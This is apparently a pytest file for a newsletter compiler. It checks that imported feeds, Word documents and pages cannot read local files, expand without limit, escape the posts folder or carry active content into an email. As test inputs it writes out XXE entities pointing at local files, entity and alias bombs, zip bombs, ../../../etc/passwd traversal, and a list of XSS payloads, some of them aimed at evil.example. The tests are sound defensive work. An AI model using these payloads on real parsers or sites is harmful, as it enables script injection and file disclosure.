"""S19 and limits: no source can read a file, unpack without end, or put active content into a mail."""

# ruff: noqa: E501  because sources stand here as they come, in one line

from datetime import date
from pathlib import Path

import pytest
from lxml.html import document_fromstring

from newsletter.compiler import Furniture, compile_post
from newsletter.errors import CompileError, SourceError
from newsletter.post import read_post
from newsletter.sources import MOST_BYTES, Material, read_source
from newsletter.sources.filing import file_draft
from newsletter.theme import template_folders
from subscribers.errors import Explained
from tests.enclosures import zipped

CANARY = "the words of a file nobody asked for"


def read(content: str | bytes, name: str = "x") -> str:
    return read_source(Material(name, content.encode() if isinstance(content, str) else content)).body


@pytest.mark.parametrize(
    "feed",
    [
        "<rss version='2.0'><channel><item><title>T</title><description>&x;</description></item></channel></rss>",
        "<feed xmlns='http://www.w3.org/2005/Atom'><entry><title>T</title><summary>&x;</summary></entry></feed>",
        "<rss xmlns:wp='http://wordpress.org/export/1.2/' xmlns:content='http://purl.org/rss/1.0/modules/content/'><channel><item><title>T</title><wp:post_type>post</wp:post_type><content:encoded>&x;</content:encoded></item></channel></rss>",
    ],
)
def test_an_entity_never_brings_in_a_file(feed: str, tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text(CANARY)
    with pytest.raises(SourceError, match="entities") as refusal:
        read(f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file://{secret}">]>{feed}')
    assert CANARY not in str(refusal.value)


def test_entities_that_multiply_are_refused() -> None:
    laughs = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    feed = f"<?xml version='1.0'?><!DOCTYPE r [{laughs}]><rss><channel><item><description>&a9;</description></item></channel></rss>"
    with pytest.raises(SourceError, match="entities"):
        read(feed)


def test_front_matter_whose_aliases_multiply_is_refused() -> None:
    bomb = "a0: &a0 [x]\n" + "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]\n" for n in range(1, 9))
    with pytest.raises(SourceError, match="too long to be meant"):
        read(f"---\n{bomb}title: T\n---\nWords\n", "a.md")


@pytest.mark.parametrize("part", ["word/document.xml", "word/media/image1.png"])
def test_a_document_that_unpacks_to_far_more_than_it_weighs_is_refused(part: str) -> None:
    parts = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>", part: b"\0" * 70_000_000}
    with pytest.raises(SourceError, match="that is no post"):
        read(zipped(parts), "bomb.docx")


def test_a_document_of_thousands_of_parts_is_refused() -> None:
    parts = {f"word/{number}.xml": b"" for number in range(2100)} | {"word/document.xml": b"<w/>"}
    with pytest.raises(SourceError, match="that is no post"):
        read(zipped(parts), "many.docx")


def test_a_document_with_entities_is_refused() -> None:
    xml = b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/hostname">]><w>&x;</w>'
    with pytest.raises(SourceError, match="entities"):
        read(zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": xml}), "x.docx")


def test_a_document_whose_picture_lies_outside_reads_no_file(tmp_path: Path) -> None:
    secret = tmp_path / "secret.png"
    secret.write_text(CANARY)
    word, drawing = (
        f"http://schemas.openxmlformats.org/{name}" for name in ("wordprocessingml/2006/main", "drawingml/2006/main")
    )
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006"
    picture = (
        '<w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:docPr descr="it"/>'
        f'<a:graphic xmlns:a="{drawing}"><a:graphicData><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:blipFill><a:blip r:link="p1"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing>'
    )
    document = f'<w:document xmlns:w="{word}" xmlns:r="{office}"><w:body><w:p><w:r><w:t>Words</w:t>{picture}</w:r></w:p></w:body></w:document>'
    content = zipped(
        {
            "[Content_Types].xml": f'<Types xmlns="{package}/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'.encode(),
            "_rels/.rels": f'<Relationships xmlns="{package}/relationships"><Relationship Id="r" Type="{office}/officeDocument" Target="word/document.xml"/></Relationships>'.encode(),
            "word/_rels/document.xml.rels": f'<Relationships xmlns="{package}/relationships"><Relationship Id="p1" Type="{office}/image" TargetMode="External" Target="file://{secret}"/></Relationships>'.encode(),
            "word/document.xml": document.encode(),
        }
    )
    draft = read_source(Material("x.docx", content))
    assert "Words" in draft.body
    assert all(CANARY.encode() not in enclosure.content for enclosure in draft.enclosures)
    assert "secret" not in draft.body
    assert any(need.what == "image" for need in draft.needs)


def test_five_megabytes_are_refused_before_they_are_parsed() -> None:
    with pytest.raises(SourceError, match="larger than 5 MB"):
        read(b"<p>a</p>" * (MOST_BYTES // 8 + 1), "x.html")


def test_a_post_just_small_enough_to_be_read_is_refused_before_it_is_compiled(tmp_path: Path) -> None:
    post = tmp_path / "long.md"
    post.write_text("# T\n\n" + "Words of [a link](https://example.org/).\n\n" * 110_000)
    with pytest.raises(CompileError, match="Shorten the post"):
        compile_post(read_post(post), Furniture("Us", "1 Example Street"), template_folders(None))


@pytest.mark.parametrize(
    "bottomless",
    ["<div>" * 50_000 + "x", "<ul><li>" * 5_000 + "x", "<b>" * 20_000 + "x", "<blockquote>" * 250 + "x"],
    ids=["div", "list", "bold", "quote"],
)  # fmt: skip
def test_what_stands_in_itself_without_end_is_refused_in_words(bottomless: str) -> None:
    with pytest.raises(SourceError, match="deep"):
        read(bottomless, "x.html")


@pytest.mark.parametrize(
    "text",
    ["[" * 50_000, "*" * 50_000 + "a", "(" * 30_000, "a\n" * 100_000, "> " * 20_000 + "x", "{% " * 20_000, "{{ " * 20_000, "`" * 50_000],
    ids=["brackets", "stars", "parens", "lines", "quotes", "tags", "values", "ticks"],
)  # fmt: skip
@pytest.mark.parametrize("name", ["paste.txt", "post.md"])
def test_no_text_keeps_us_busy_for_ever(text: str, name: str) -> None:
    try:
        read(f"A title\n\n{text}\n", name)
    except Explained:
        return


@pytest.mark.thorough
@pytest.mark.parametrize(
    "page",
    ["<nav>a</nav><p>b</p>", "<div><form>x</form></div><p>b</p>", "<p>a</p> 3 March 2026 ", "<p>By Ann Rees</p>", "<p>Share this</p><p>words</p>"],
    ids=["menus", "forms", "dates", "bylines", "stops"],
)  # fmt: skip
@pytest.mark.parametrize("times", [8_000, pytest.param(30_000, marks=pytest.mark.nightly)])
def test_no_page_keeps_us_busy_for_ever(page: str, times: int) -> None:
    """A page of a quarter of a megabyte is read in a second; a reader with quadratic time would need minutes."""
    assert read("<html><body><article>" + page * times, "x.html")


def test_no_page_of_cut_words_keeps_us_busy_for_ever() -> None:
    assert read("Title\n\n" + "ab-\n" * 60_000 + "x\n", "x.txt")


HOSTILE = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>", "<a href=' &#14; javascript:alert(1)'>x</a>", "<iframe src=javascript:alert(1)></iframe>",
    "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>", "<a href='vbscript:x'>x</a>", "<a href='data:text/html,x'>x</a>",
    "<math><mi xlink:href='javascript:alert(1)'>x</math>", "<form action=https://evil.example><input name=p></form>",
    "<style>@import 'https://evil.example/x'</style>", "<link rel=stylesheet href=https://evil.example/x>",
    "<object data=https://evil.example/x></object>", "<p title='\"><script>alert(1)</script>'>x</p>",
    "<img src='x\" onerror=\"alert(1)' alt='\" onerror=\"alert(1)'>", "<a href='https://example.org/\" onclick=\"alert(1)'>x</a>",
    "<iframe src='https://v.example/\" onload=\"alert(1)' title='\" onload=\"alert(1)'></iframe>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "<code>&lt;script&gt;alert(1)&lt;/script&gt;</code>", "<pre>```\n&lt;script&gt;alert(1)</pre>",
    "<table><tr><td colspan=2 onclick=alert(1)>&lt;script&gt;</td></tr><tr><td>a<td>b</table>",
    "<a href='https://example.org/)&lt;script&gt;alert(1)&lt;/script&gt;'>x</a>", "<p>[x](javascript:alert(1))</p>",
]  # fmt: skip


@pytest.mark.parametrize("html", HOSTILE)
@pytest.mark.parametrize("name", ["clip", "feed"])
def test_nothing_active_comes_through_into_the_mail(html: str, name: str, tmp_path: Path) -> None:
    source = f"<p>Words of the story.</p>{html}"
    if name == "feed":
        source = f"<rss version='2.0'><channel><item><title>T</title><description><![CDATA[{source}]]></description></item></channel></rss>"
    filed = file_draft(read_source(Material(name, source.encode())), tmp_path, date(2026, 6, 3))
    email = compile_post(read_post(filed.path), Furniture("Us", "1 Example Street"), template_folders(None))
    for element in document_fromstring(email.html).iter():
        if not isinstance(element.tag, str):
            continue
        assert element.tag not in ("script", "iframe", "object", "embed", "form", "input", "svg", "math", "link")
        for attribute, value in ((str(name), str(held)) for name, held in element.attrib.items()):
            assert not attribute.startswith("on")
            assert not value.strip().lower().startswith(("javascript:", "vbscript:", "data:"))
        if element.tag != "style":
            assert "evil.example" not in (element.text or "")


def test_a_name_in_an_archive_or_a_picture_cannot_lead_out_of_the_folder(tmp_path: Path) -> None:
    folder = tmp_path / "posts"
    page = '<p>Words</p><img alt="a" src="data:image/png;base64,iVBORw0KGgo="><img alt="b" src="../../../etc/passwd">'
    filed = file_draft(read_source(Material("x.html", page.encode())), folder, date(2026, 6, 3))
    assert all(folder in picture.parents for picture in (filed.path, *filed.pictures))
    assert sorted(path.name for path in tmp_path.iterdir()) == ["posts"]
